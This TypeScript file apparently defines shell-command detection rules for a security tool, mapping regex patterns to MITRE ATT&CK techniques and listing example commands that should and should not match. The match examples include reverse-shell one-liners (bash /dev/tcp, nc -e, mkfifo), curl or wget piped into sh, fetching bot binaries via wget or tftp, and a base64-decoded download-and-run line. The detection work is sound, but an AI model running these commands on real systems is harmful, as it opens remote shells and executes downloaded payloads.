// Shell execution rules (DECNET R0010–R0012, R0029 and additions): reverse shells, inline
// interpreters, piping downloads into a shell, ingress tool transfer, chmod +x, decoding, sudo.
import { CMD, type RepoRule } from './types';

export const shellExecRules: RepoRule[] = [
  {
    id: 'R0010', version: 1, name: 'reverse_shell', description: 'Reverse or bind shell primitives: bash -i, /dev/tcp, nc -e, socat exec, mkfifo pipes, python sockets.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\bbash\s+-i\b|/dev/(?:tcp|udp)/|\bnc(?:at)?\b[^;|&]{0,80}?\s-[a-z]*[ec]\s|\bsocat\b[^;|&]{0,120}?\bexec:|\bmkfifo\s+/tmp/|\bpython[23]?\s+-c\s+.{0,120}?\bsocket\b`, flags: 'i' },
    emits: [{ tactic: 'execution', technique: 'T1059', subTechnique: 'T1059.004', confidence: 0.9 }], evidence: ['command'],
    examples: { match: ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'nc -e /bin/sh 203.0.113.5 9001', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f'], noMatch: ['bash script.sh', 'nc -zv 10.0.0.1 22'] },
  },
  {
    id: 'R0011', version: 1, name: 'interpreter_inline', description: 'Inline code run through a scripting interpreter (python -c, perl -e, ...).',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: CMD + String.raw`(?:python[23]?(?:\.\d+)?|perl|ruby|php|node|lua)\s+-[cer]\s`, flags: 'i' },
    emits: [{ tactic: 'execution', technique: 'T1059', confidence: 0.6 }], evidence: ['command'],
    examples: { match: [`python3 -c 'import pty;pty.spawn("/bin/bash")'`, `perl -e 'print 1'`], noMatch: ['python3 --version', 'ls -la'] },
  },
  {
    id: 'R0102', version: 1, name: 'download_pipe_shell', description: 'A download piped straight into a shell.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\b(?:curl|wget)\b[^;&]{0,300}?\|\s*(?:sudo\s+)?(?:ba|da|z)?sh\b`, flags: 'i' },
    emits: [{ tactic: 'execution', technique: 'T1059', subTechnique: 'T1059.004', confidence: 0.85 }], evidence: ['command'],
    examples: { match: ['curl -fsSL http://203.0.113.9/x.sh | sh', 'wget -qO- 198.51.100.2/i|bash'], noMatch: ['curl http://example.com -o page.html', 'cat x | grep y'] },
  },
  {
    id: 'R0012', version: 1, name: 'ingress_tool_transfer', description: 'Tools fetched onto the host: wget/curl/tftp/ftpget of a URL or address, scp from a remote host.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\b(?:wget|curl|fetch|ftpget|tftp|lwp-download|aria2c)\b[^;|&]{0,200}?(?:(?:https?|ftp|tftp)://|\b\d{1,3}(?:\.\d{1,3}){3}\b)|\bscp\s+(?:-\S+\s+)*\S+:\S*\s`, flags: 'i' },
    emits: [{ tactic: 'command-and-control', technique: 'T1105', confidence: 0.85 }], evidence: ['command', 'match'],
    examples: { match: ['wget http://203.0.113.9/bins/x86 -O /tmp/x86', 'curl -o /tmp/k 198.51.100.3/k', 'cd /tmp; tftp -g -r mips 203.0.113.4'], noMatch: ['echo wget is a tool', 'curl --version'] },
  },
  {
    id: 'R0103', version: 1, name: 'chmod_executable', description: 'A file made executable (typically a dropped tool).',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: CMD + String.raw`chmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rw]*x|0?[0-7]?[0-7][0-7][1357])\b`, flags: 'i' },
    emits: [{ tactic: 'defense-evasion', technique: 'T1222', subTechnique: 'T1222.002', confidence: 0.6 }], evidence: ['command'],
    examples: { match: ['chmod +x /tmp/x86', 'cd /tmp; chmod 777 bot', 'chmod u+x run.sh'], noMatch: ['chmod 644 notes.txt', 'ls -l'] },
  },
  {
    id: 'R0106', version: 1, name: 'decode_payload', description: 'Base64 (or similar) decoding of a payload, usually to run it.',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`\bbase64\s+(?:-\w+\s+)*(?:-d|--decode)\b|\becho\s+['"]?[A-Za-z0-9+/]{40,}={0,2}['"]?\s*\|`, flags: '' },
    emits: [{ tactic: 'defense-evasion', technique: 'T1140', confidence: 0.7 }], evidence: ['command'],
    examples: { match: ['echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveC5zaHxzaA== | base64 -d | sh', 'base64 --decode p.b64 > p'], noMatch: ['base64 file.bin', 'echo hello | wc'] },
  },
  {
    id: 'R0029', version: 1, name: 'sudo_use', description: 'Elevation through sudo or su (including sudo -l enumeration).',
    appliesTo: ['command'], match: { kind: 'pattern', pattern: String.raw`(?:^|[;&|\x60(\n]|\$\()\s*(?:sudo\b|su\s+(?:-|root\b)|su\s*$)`, flags: '' },
    emits: [{ tactic: 'privilege-escalation', technique: 'T1548', subTechnique: 'T1548.003', confidence: 0.6 }], evidence: ['command'],
    examples: { match: ['sudo -l', 'sudo su -', 'cd /; su root'], noMatch: ['echo sudo', 'ls /usr/bin/sudoedit'] },
  },
];
